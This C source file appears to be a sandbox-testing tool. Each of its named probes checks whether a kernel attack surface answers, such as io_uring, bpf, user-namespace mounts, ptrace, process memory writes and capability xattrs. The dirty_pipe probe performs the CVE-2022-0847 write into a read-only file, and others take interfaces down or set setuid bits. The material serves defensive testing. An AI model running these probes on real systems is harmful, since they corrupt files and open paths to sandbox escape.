/*
 * One part of the kernel at a time that a sandbox has no business in:
 *
 *	reach NAME [ARGUMENT]	exit 0: it answered; 1: it did not, and why
 *	reach			the names
 *
 * Most are the first step of an escape that was published; each works on a
 * host without a filter, at least as root.
 */

#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/perf_event.h>
#include <mqueue.h>
#include <net/if.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define WORKED(condition) ((condition) ? 0 : -1)
#define NEWTIME 0x80

/* ---------------------------------------------------------- large surfaces */

static int
io_uring(const char *arg)
{
	struct io_uring_params p = {0};

	(void)arg;
	return WORKED(syscall(SYS_io_uring_setup, 4, &p) != -1);
}

static int
page_faults(const char *arg)
{
	(void)arg;
	return WORKED(syscall(SYS_userfaultfd, O_CLOEXEC | 1) != -1);
}

static int
make_key(const char *arg)
{
	(void)arg;
	return WORKED(syscall(SYS_add_key, "user", "skep-test", "x", 1,
			  -2 /* the process's keyring */) != -1);
}

static int
find_keyring(const char *arg)
{
	(void)arg;
	return WORKED(syscall(SYS_keyctl, 0, -4 /* the user's */, 1) != -1);
}

static int
performance(const char *arg)
{
	struct perf_event_attr a = {.type = PERF_TYPE_SOFTWARE,
	    .size = sizeof a,
	    .config = PERF_COUNT_SW_TASK_CLOCK,
	    .exclude_kernel = 1};

	(void)arg;
	return WORKED(syscall(SYS_perf_event_open, &a, 0, -1, -1, 0) != -1);
}

static int
bpf_map(const char *arg)
{
	union bpf_attr a = {.map_type = BPF_MAP_TYPE_ARRAY,
	    .key_size = 4,
	    .value_size = 4,
	    .max_entries = 1};

	(void)arg;
	return WORKED(syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a) != -1);
}

static int
watch_files(const char *arg)
{
	return WORKED(
	    syscall(SYS_fanotify_init, 0x200 /* by handle */, O_RDONLY) != -1 &&
	    arg == NULL);
}

static int
secret_memory(const char *arg)
{
	(void)arg;
	return WORKED(syscall(447, 0) != -1 || errno == ENODEV);
}

static int
own_filter(const char *arg)
{
	(void)arg;
	/* A filter at no address: refused only after it was let in. */
	return WORKED(
	    syscall(SYS_seccomp, 1, 0x8 /* new listener */, NULL) == -1 &&
	    errno == EFAULT);
}

/* --------------------------------------------------------------- namespaces */

/* arg: the flag's number */
static int
clone_with(const char *arg)
{
	long pid = syscall(
	    SYS_clone, strtoul(arg, NULL, 0) | SIGCHLD, NULL, NULL, NULL, 0L);

	if (pid == 0)
		_exit(0);
	if (pid > 0)
		waitpid((pid_t)pid, NULL, 0);
	return WORKED(pid != -1);
}

static int
leave_time(const char *arg)
{
	(void)arg;
	return unshare(NEWTIME);
}

/* Root of a user namespace of one's own. */
static int
nest(int flags)
{
	const unsigned uid = getuid(), gid = getgid();
	const struct {
		const char *path;
		unsigned id;
	} files[] = {{"/proc/self/setgroups", 0}, {"/proc/self/uid_map", uid},
	    {"/proc/self/gid_map", gid}};

	if (unshare(CLONE_NEWUSER | flags) == -1)
		return -1;
	for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
		int fd = open(files[i].path, O_WRONLY);

		if (fd == -1 ||
		    dprintf(fd, i == 0 ? "deny" : "0 %u 1", files[i].id) < 0)
			return -1;
		close(fd);
	}
	return 0;
}

/* What a user namespace of one's own is wanted for. */
static int
nested_overlay(const char *arg)
{
	(void)arg;
	if (nest(CLONE_NEWNS) == -1 ||
	    mount("tmpfs", "/tmp", "tmpfs", 0, NULL) == -1 ||
	    mkdir("/tmp/u", 0755) == -1 || mkdir("/tmp/w", 0755) == -1)
		return -1;
	return mount("overlay", "/tmp", "overlay", 0,
	    "lowerdir=/usr,upperdir=/tmp/u,workdir=/tmp/w,userxattr");
}

static int
nested_fuse(const char *arg)
{
	char how[64];
	int fd = open("/dev/fuse", O_RDWR);

	(void)arg;
	if (nest(CLONE_NEWNS) == -1)
		return -1;
	snprintf(
	    how, sizeof how, "fd=%d,rootmode=40000,user_id=0,group_id=0", fd);
	return mount("x", "/tmp", "fuse", 0, how);
}

static int
nested_tables(const char *arg)
{
	(void)arg;
	/* Packet filters: the kernel's most abused part of all. */
	return WORKED(
	    nest(CLONE_NEWNET) == 0 && socket(AF_NETLINK, SOCK_RAW, 12) != -1);
}

/* ----------------------------------------------------------- other processes */

static pid_t
victim(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		pause();
		_exit(0);
	}
	return pid;
}

static int
end(pid_t pid, int result)
{
	int saved = errno;

	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	errno = saved;
	return result;
}

static int
trace_sibling(const char *arg)
{
	pid_t pid = victim();

	(void)arg;
	return end(pid, WORKED(ptrace(PTRACE_SEIZE, pid, NULL, NULL) != -1));
}

static int
write_memory(const char *arg)
{
	static char word[8];
	pid_t pid = arg != NULL ? (pid_t)atoi(arg) : victim();
	struct iovec here = {word, sizeof word}, there = {word, sizeof word};
	long n = process_vm_writev(pid, &here, 1, &there, 1, 0);
	/* EFAULT is an address that is not there: writing was allowed. */
	int worked = WORKED(n != -1 || errno == EFAULT);

	return arg != NULL ? worked : end(pid, worked);
}

static int
compare(const char *arg)
{
	pid_t pid = arg != NULL ? (pid_t)atoi(arg) : getpid();

	return WORKED(syscall(SYS_kcmp, getpid(), pid, 0, 0, 0) != -1);
}

static int
advise_other(const char *arg)
{
	static char page[4096];
	struct iovec v = {page, sizeof page};
	int fd = (int)syscall(SYS_pidfd_open, getpid(), 0);

	(void)arg;
	return WORKED(
	    syscall(SYS_process_madvise, fd, &v, 1, MADV_COLD, 0) != -1 ||
	    errno == EINVAL);
}

static int
open_memory(const char *arg)
{
	return WORKED(open(arg, O_RDWR) != -1);
}

/* ------------------------------------------------------------------- files */

/* CVE-2022-0847: a page of the file in a pipe, and a write that joins it. */
static int
dirty_pipe(const char *arg)
{
	static char fill[4096];
	int fd = open(arg, O_RDONLY), p[2];
	char before, after;
	loff_t at = 0;

	if (fd == -1 || pipe(p) == -1 || pread(fd, &before, 1, 1) != 1)
		return -1;
	for (int i = 0; i < 16; i++)
		(void)!write(p[1], fill, sizeof fill);
	for (int i = 0; i < 16; i++)
		(void)!read(p[0], fill, sizeof fill);
	if (splice(fd, &at, p[1], NULL, 1, 0) != 1)
		return -1;
	after = (char)~before;
	(void)!write(p[1], &after, 1);
	if (pread(fd, &after, 1, 1) != 1)
		return -1;
	errno = EROFS;
	return WORKED(after != before);
}

/* A program that lies in no file system, with S_ISUID. */
static int
memory_file(const char *arg)
{
	int fd = (int)syscall(SYS_memfd_create, "skep-test", 0);
	struct stat st;

	(void)arg;
	(void)!fchmod(fd, 04755);
	return fstat(fd, &st) == -1 ? -1 : WORKED((st.st_mode & S_ISUID) != 0);
}

static int
exchange(const char *arg)
{
	(void)!mkdir("exchanged", 0755);
	return renameat2(AT_FDCWD, "exchanged", AT_FDCWD, arg, RENAME_EXCHANGE);
}

static int
punch(const char *arg)
{
	int fd = open(arg, O_RDWR);

	return fd == -1 ? -1
			: fallocate(fd,
			      FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 1);
}

static int
set_flags(const char *arg)
{
	long append = 0x20;
	int fd = open(arg, O_RDONLY);

	if (fd == -1 || ioctl(fd, _IOW('f', 2, long), &append) == -1)
		return -1;
	append = 0; /* or nobody could remove it */
	return ioctl(fd, _IOW('f', 2, long), &append);
}

static int
trusted_name(const char *arg)
{
	return (int)syscall(
	    SYS_setxattr, arg, "trusted.overlay.opaque", "y", 1, 0);
}

static int
capability_name(const char *arg)
{
	static const unsigned char caps[20] = {1, 0, 0, 2, 0, 0x20};

	return (int)syscall(
	    SYS_setxattr, arg, "security.capability", caps, sizeof caps, 0);
}

/* An access list that lets everybody execute it; the mode's bits stay. */
static int
allow_by_list(const char *arg)
{
	static const struct {
		uint32_t version;
		struct {
			uint16_t tag, perm;
			uint32_t id;
		} entry[3];
	} list = {2, {{1, 7, ~0U}, {4, 7, ~0U}, {32, 5, ~0U}}};

	return (int)syscall(SYS_setxattr, arg, "system.posix_acl_access", &list,
	    sizeof list, 0);
}

/* ----------------------------------------------------------------- network */

static int
interface_down(const char *arg)
{
	struct ifreq r = {.ifr_flags = 0};
	int s = socket(AF_INET, SOCK_DGRAM, 0);

	(void)arg;
	memcpy(r.ifr_name, "lo", 3);
	return ioctl(s, SIOCSIFFLAGS, &r);
}

static int
force_buffer(const char *arg)
{
	int bytes = 1 << 28, s = socket(AF_UNIX, SOCK_DGRAM, 0);

	(void)arg;
	return setsockopt(
	    s, SOL_SOCKET, 32 /* SNDBUFFORCE */, &bytes, sizeof bytes);
}

static int
packet_filter(const char *arg)
{
	/* struct ipt_getinfo begins with the table's name. */
	char table[84] = "filter";
	socklen_t n = sizeof table;
	int s = socket(AF_INET, SOCK_STREAM, 0);

	(void)arg;
	return getsockopt(s, 0, 64 /* IPT_SO_GET_INFO */, table, &n) == 0 ||
		       errno == ENOPROTOOPT
		   ? 0
		   : -1;
}

/* ---------------------------------------------------- what others have made */

static int
message_queue(const char *arg)
{
	return WORKED(msgget(atoi(arg), 0) != -1);
}

static int
semaphores(const char *arg)
{
	return WORKED(semget(atoi(arg), 0, 0) != -1);
}

static int
posix_queue(const char *arg)
{
	return WORKED(mq_open(arg, O_RDONLY) != -1);
}

/* arg: a key; leaves one of each behind, for the next to find. */
static int
leave_marks(const char *arg)
{
	char name[32];
	int key = atoi(arg);

	snprintf(name, sizeof name, "/skep-%d", key);
	return WORKED(shmget(key, 4096, IPC_CREAT | 0666) != -1 &&
		      msgget(key, IPC_CREAT | 0666) != -1 &&
		      semget(key, 1, IPC_CREAT | 0666) != -1 &&
		      mq_open(name, O_RDWR | O_CREAT, 0666, NULL) != -1);
}

static int
remove_marks(const char *arg)
{
	char name[32];
	int key = atoi(arg);

	snprintf(name, sizeof name, "/skep-%d", key);
	shmctl(shmget(key, 0, 0), IPC_RMID, NULL);
	msgctl(msgget(key, 0), IPC_RMID, NULL);
	semctl(semget(key, 0, 0), 0, IPC_RMID);
	return mq_unlink(name);
}

static const struct {
	const char *name;
	int (*attack)(const char *arg);
} attacks[] = {
#define A(name)             \
	{                   \
#		name, name \
	}
    A(io_uring),
    A(page_faults),
    A(make_key),
    A(find_keyring),
    A(performance),
    A(bpf_map),
    A(watch_files),
    A(secret_memory),
    A(own_filter),
    A(clone_with),
    A(leave_time),
    A(nested_overlay),
    A(nested_fuse),
    A(nested_tables),
    A(trace_sibling),
    A(write_memory),
    A(compare),
    A(advise_other),
    A(open_memory),
    A(dirty_pipe),
    A(memory_file),
    A(exchange),
    A(punch),
    A(set_flags),
    A(trusted_name),
    A(capability_name),
    A(allow_by_list),
    A(interface_down),
    A(force_buffer),
    A(packet_filter),
    A(message_queue),
    A(semaphores),
    A(posix_queue),
    A(leave_marks),
    A(remove_marks),
#undef A
};

int
main(int argc, char **argv)
{
	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
		if (argc < 2) {
			puts(attacks[i].name);
			continue;
		}
		if (strcmp(argv[1], attacks[i].name) != 0)
			continue;
		if (attacks[i].attack(argc > 2 ? argv[2] : NULL) == 0) {
			puts("answered");
			return 0;
		}
		printf("failed: %s\n", strerror(errno));
		return 1;
	}
	return argc < 2 ? 0 : 2;
}
